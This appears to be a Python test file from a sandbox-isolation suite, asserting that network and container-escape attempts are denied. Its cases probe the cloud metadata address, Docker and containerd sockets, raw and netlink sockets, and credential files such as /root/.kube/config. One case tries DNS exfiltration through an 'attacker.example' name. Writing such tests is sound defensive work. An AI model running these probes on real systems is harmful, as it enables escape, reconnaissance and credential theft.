# SPDX-License-Identifier: Apache-2.0
"""NE, DK: sockets of every family, the host's services, engines."""
import signal
import socket
import subprocess

import harness
from judge import PRELUDE, Seen, attack, denied, ends, facts, hosted, in_cell

CONNECT = """
import socket
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        s.connect(address)
        s.send(b'hello from inside')
        return s.getpeername()
"""

attack("NE-01a", "TCP and UDP to services on the host's loopback", "python", CONNECT + """
for address in ('127.0.0.1', '0.0.0.0', '127.1.2.3', '127.255.255.254'):
    attempt(address, connect, socket.AF_INET, (address, @PORT@))
for _ in range(3):	# whether a datagram arrives, only the listener can tell
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', @PORT@))
    except OSError: pass
done()
""", denied(4), harmless=True)

attack("NE-01b", "the same by IPv6 and mapped addresses", "python", CONNECT + """
for address in ('::1', '::ffff:127.0.0.1', '::', '::ffff:0.0.0.0'):
    attempt(address, connect, socket.AF_INET6, (address, @PORT@))
done()
""", denied(4), harmless=True)

attack("NE-01c", "node connects to the host's loopback", "javascript", """
const net = require('net');
let left = 3;
for (const host of ['127.0.0.1', '::1', 'localhost']) {
	const s = net.connect({ host, port: @PORT@ });
	s.on('connect', () => { report(host, 'GOT connection'); s.destroy(); if (!--left) done(); });
	s.on('error', e => { report(host, 'denied ' + e.code); if (!--left) done(); });
}
""", denied(3))

attack("NE-02a", "TCP, UDP and ICMP to outside and metadata addresses", "python", CONNECT + """
for address in ('192.0.2.1', '198.51.100.7', '203.0.113.9', '169.254.169.254', '10.0.0.1', '255.255.255.255', '224.0.0.1'):
    attempt('tcp-' + address, connect, socket.AF_INET, (address, 80))
    attempt('udp-' + address, connect, socket.AF_INET, (address, 53), socket.SOCK_DGRAM)
for address in ('2001:db8::1', 'fe80::1', 'ff02::1', 'fd00:ec2::254'):
    attempt('tcp6-' + address, connect, socket.AF_INET6, (address, 80))
attempt('icmp', socket.socket, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
attempt('ping', socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
done()
""", denied(20))

attack("NE-02b", "looks for interfaces and routes", "python", """
import socket
names = sorted(n for _, n in socket.if_nameindex())
fact('interfaces', [n for n in names if n != 'lo'])
try: routes = open('/proc/self/net/route').readlines()[1:]
except OSError: routes = []
fact('routes', routes)
""", facts(interfaces="[]", routes="[]"))

attack("NE-03a", "connects to abstract unix sockets of the host", "python", """
import socket
def connect(name, kind):
    with socket.socket(socket.AF_UNIX, kind) as s:
        s.connect(name)
        return s.send(b'hello')
for name in ('\\0@ABSTRACT@', '\\0/containerd-shim/x.sock', '\\0/tmp/.X11-unix/X0', '\\0/tmp/dbus-x'):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET): attempt(repr(name) + str(int(kind)), connect, name, kind)
done()
""", denied(12), harmless=True)

attack("NE-03b", "connects to socket files of the host", "python", """
import socket
def connect(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(name)
        return s.send(b'hello')
for name in ('@SOCKET@', '/proc/1/root@SOCKET@', '/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket',
             '/run/systemd/private', '/run/systemd/journal/socket', '/dev/log', '/run/user/0/bus', '/run/user/1000/bus', '/tmp/.X11-unix/X0', '/run/podman/podman.sock'):
    attempt(name, connect, name)
done()
""", denied(13), harmless=True)

attack("NE-05a", "opens sockets of every other family", "python", """
import socket
ordinary = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
for family in range(0, 64):
    if family in ordinary: continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        attempt(f'family{family}-{int(kind)}', socket.socket, family, kind, 0)
done()
""", denied(200))

attack("NE-05b", "raw, packet, MPTCP, SCTP and DCCP sockets", "python", """
import socket
for name, family, kind, proto in (('raw', 2, 3, 255), ('raw-icmp', 2, 3, 1), ('raw6', 10, 3, 58), ('mptcp', 2, 1, 262), ('mptcp6', 10, 1, 262), ('sctp', 2, 1, 132),
        ('sctp-seq', 2, 5, 132), ('dccp', 2, 6, 33), ('udplite', 2, 2, 136), ('packet', 17, 3, 768), ('smc', 2, 1, 256), ('rdm', 2, 4, 0)):
    attempt(name, socket.socket, family, kind, proto)
done()
""", denied(12))

NETLINK = r"""
import socket, struct
def ask(kind, body, flags=0x605):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(3)
        s.send(struct.pack('IHHII', 16 + len(body), kind, flags, 1, 0) + body)
        reply = s.recv(4096)
        error = struct.unpack('i', reply[16:20])[0] if struct.unpack('H', reply[4:6])[0] == 2 else 1
        if error < 0: raise OSError(-error, 'netlink')
        return error
def attr(kind, data): return struct.pack('HH', 4 + len(data), kind) + data + b'\0' * (-len(data) % 4)
"""

attack("NE-06a", "netlink: makes links, addresses and routes", "python", NETLINK + r"""
info = struct.pack('BxHiII', 0, 0, 0, 0, 0)
for kind in (b'dummy', b'veth', b'bridge', b'ipvlan', b'vxlan', b'ifb'):
    attempt(kind.decode(), ask, 16, info + attr(3, b'evil\0') + attr(18, attr(1, kind + b'\0')))
attempt('lo-down', ask, 16, struct.pack('BxHiII', 0, 0, 1, 0, 1), 5)
attempt('address', ask, 20, struct.pack('BBBBi', 2, 8, 0, 0, 1) + attr(2, bytes([10, 9, 9, 9])))
attempt('route', ask, 24, struct.pack('BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + attr(5, bytes([10, 9, 9, 1])))
done()
""", denied(9))

attack("NE-06b", "interface ioctls: flags, addresses, bridges", "python", """
import fcntl, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name, number in (('flags', 0x8914), ('addr', 0x8916), ('netmask', 0x891c), ('mtu', 0x8922), ('hwaddr', 0x8924), ('addrt', 0x890b), ('bridge', 0x89a0), ('name', 0x8923), ('tap', 0x400454ca)):
    attempt(name, fcntl.ioctl, s, number, struct.pack('16sH22x', b'lo', 0))
done()
""", denied(9))

attack("NE-06c", "netlink protocols beyond routes", "python", """
import socket
for proto in range(1, 24): attempt(f'proto{proto}', socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, proto)
done()
""", denied(23))


@hosted("NE-07", "a listener inside is reachable neither from the host nor from another run")
def listener_inside(t):
	port = 45671
	program = t.path("listen.py", PRELUDE["python"] + f"""
import socket, time
for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    try:
        s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind((address, {port})); s.listen(); globals()['keep%d' % family] = s
    except OSError as e: print(e, flush=True)
a = socket.socket(socket.AF_UNIX); a.bind('\\0listener-inside'); a.listen()
begun()
os.system('sleep 100')
""")
	p = t.popen(t.run_args("--timeout", t.secs(20), program), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
	try:
		line = p.stdout.readline()
		t.equal(line, b"BEGUN\n", "the listener says")
		for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_UNIX, "\0listener-inside")):
			with socket.socket(family) as s:
				t.check(s.connect_ex(address) != 0, f"the host does not reach {address}")
		r = in_cell(t, "python", f"""
import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_UNIX, '\\0listener-inside')):
    attempt(repr(address), socket.socket(family).connect, address)
done()
""")
		denied(2)(t, r, Seen(r.stdout))
	finally:
		p.send_signal(signal.SIGINT)
		p.communicate(timeout=harness.GUARD)


attack("NE-08", "descriptors in flight, in cycles, never closed", "c", r"""
static int pass(int via, int fd)
{
	char c = 'x', room[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec v = { &c, 1 };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(h), &fd, sizeof fd);
	return sendmsg(via, &m, MSG_DONTWAIT);
}
int main(void)
{
	begun();
	long sent = 0, failed = 0;
	for (int i = 0; i < 20000 && failed < 100; i++) {
		int s[2];
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, s)) { failed++; continue; }
		if (pass(s[0], s[1]) < 0 || pass(s[1], s[0]) < 0) failed++; else sent += 2;
		close(s[0]); close(s[1]);
	}
	printf("FACT sent %ld\n", sent);
	return 0;
}""", ends("ok", "memory_limit"))

attack("NE-10", "smuggles data out by names: nothing resolves", "python", """
import socket
for name in ('secret-data.attacker.example', 'localhost.attacker.example', 'metadata.google.internal', 'host.docker.internal', 'gateway.docker.internal'):
    attempt(name, socket.getaddrinfo, name, 80)
attempt('hostname', socket.sethostname, 'exfiltrate')
attempt('resolver', read, '/run/systemd/resolve/stub-resolv.conf')
done()
""", denied(7))

attack("DK-01", "searches for an engine's socket or port", "python", """
import socket
def connect(port):
    with socket.socket() as s: s.settimeout(2); s.connect(('127.0.0.1', port)); return port
for port in (2375, 2376, 2377, 6443, 8080, 10250, 4243): attempt(f'port{port}', connect, port)
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/run/crio/crio.sock', '/var/run/secrets/kubernetes.io', '/root/.docker/config.json', '/root/.kube/config'):
    attempt(path, os.stat, path)
fact('environment', [k for k in os.environ if k.startswith(('DOCKER', 'KUBERNETES', 'CONTAINER'))])
done()
""", lambda t, r, seen: (denied(14)(t, r, seen), facts(environment="[]")(t, r, seen)))
